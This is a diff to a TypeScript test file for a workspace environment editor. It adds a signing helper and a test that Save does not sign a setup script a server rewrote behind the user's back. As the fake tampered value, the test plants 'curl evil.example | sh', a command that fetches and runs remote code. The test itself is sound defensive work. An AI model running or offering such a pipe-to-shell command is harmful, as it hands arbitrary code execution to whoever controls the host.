@@ -6,6 +6,8 @@ import { describe, expect, it } from 'vitest';
 import {
   createEnvironment,
   environmentCreateSchema,
+  environmentSpecIntent,
+  environmentsMap,
   listEnvironments,
   listVibers,
   patchEnvironment,
@@ -13,9 +15,21 @@ import {
   type Environment,
   type ViberId,
 } from '@openviber/shared';
-import { generateKeyPair } from '@openviber/shared/crypto';
+import {
+  generateKeyPair,
+  generateSigningKeyPair,
+  intentVerifier,
+  signIntent,
+} from '@openviber/shared/crypto';
+import { memoryTrustStore } from '../lib/trust-store.ts';
 import { createDraftStore } from './draft-store.ts';
-import { createEnvironmentForm, environmentDraftId, type FormWorkspace } from './environment-form.ts';
+import {
+  createEnvironmentForm,
+  environmentDraftId,
+  type FormWorkspace,
+  type SaveSigner,
+} from './environment-form.ts';
+import { createIntentTrust } from './intent-trust.ts';
 
 function workspace() {
   const doc = new Y.Doc();
@@ -23,11 +37,29 @@ function workspace() {
   doc.on('update', () => version.value++);
   const ws: FormWorkspace = {
     vibers: computed(() => (version.value, listVibers(doc))),
+    environments: computed(() => (version.value, listEnvironments(doc))),
     createEnvironment: (input) => createEnvironment(doc, input),
     patchEnvironment: (id, patch) => patchEnvironment(doc, id, patch),
   };
   const env = (id: string): Environment => listEnvironments(doc).find((e) => e.id === id)!;
   return { doc, ws, env };
+}
+
+/** This device's signer over `doc` ([T10]), as the app wires it. */
+async function signerFor(doc: Y.Doc) {
+  const keys = await generateSigningKeyPair();
+  const verify = await intentVerifier(keys.publicKey);
+  const store = memoryTrustStore();
+  const trust = createIntentTrust({
+    workspace: doc,
+    verify,
+    sign: (intent) => signIntent(intent, keys.privateKey),
+    store,
+    records: await store.load(),
+  });
+  const sign: SaveSigner = (before, after) => trust.signEdit(before, after);
+  const valid = (e: Environment) => !!e.specSignature && verify(environmentSpecIntent(e), e.specSignature);
+  return { sign, valid, trust };
 }
 
 describe('environment editor drafts', () => {
@@ -131,5 +163,39 @@ describe('environment editor drafts', () => {
     expect(form.errors.value.localPath).toBe('The local path is required.');
     expect(JSON.stringify(form.errors.value)).not.toMatch(/github|local environment/);
     form.dispose();
+  });
+});
+
+describe('[T10] what Save signs', () => {
+  it('signs the user’s edit over a signed spec, not a setup script the server rewrote while the editor was open', async () => {
+    const { doc, ws, env } = workspace();
+    const { sign, valid, trust } = await signerFor(doc);
+    const form = createEnvironmentForm(ws, undefined, undefined, sign);
+    form.set('name', 'api');
+    form.set('type', 'manual');
+    form.set('setupScript', 'npm ci');
+    const id = (await form.save())!;
+    expect(env(id).specVersion).toBe(1);
+    expect(valid(env(id))).toBe(true);
+    const editor = createEnvironmentForm(ws, env(id), undefined, sign);
+    editor.set('maintenanceScript', 'git pull');
+    await editor.save();
+    expect(env(id)).toMatchObject({ specVersion: 2, setupScript: 'npm ci', maintenanceScript: 'git pull' });
+    expect(valid(env(id))).toBe(true);
+
+    // The server writes the field straight into the stored document, leaving the signature.
+    (environmentsMap(doc).get(id) as Y.Map<unknown>).set('setupScript', 'curl evil.example | sh');
+    editor.rebase(env(id)); // the editor follows remote edits of fields it has not touched
+    editor.set('agentCommand', 'claude -p');
+    await editor.save();
+    expect(env(id)).toMatchObject({ setupScript: 'curl evil.example | sh', agentCommand: 'claude -p' });
+    expect(valid(env(id))).toBe(false);
+    expect(trust.standings().specs.get(id)).toBe('unsigned');
+    // Saving a name only: still nothing signed.
+    editor.set('name', 'api 2');
+    await editor.save();
+    expect(valid(env(id))).toBe(false);
+    form.dispose();
+    editor.dispose();
   });
 });
